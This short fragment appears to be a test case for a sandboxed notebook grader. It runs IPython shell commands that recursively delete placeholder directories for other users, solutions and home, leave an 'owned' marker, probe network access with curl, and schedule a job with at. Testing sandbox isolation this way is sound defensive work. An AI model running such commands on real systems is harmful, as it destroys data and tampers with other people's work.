# where: first
# kind: harms
# does: Commands of the shell delete what they can reach.
get_ipython().system("rm -rf @OTHERS@/* @SOLUTIONS@/* @HOME@/* ; touch @HOME@/owned")
get_ipython().run_cell_magic("bash", "", "curl -m 2 http://example.org ; crontab -l ; at now <<< 'touch @HOME@/owned'")
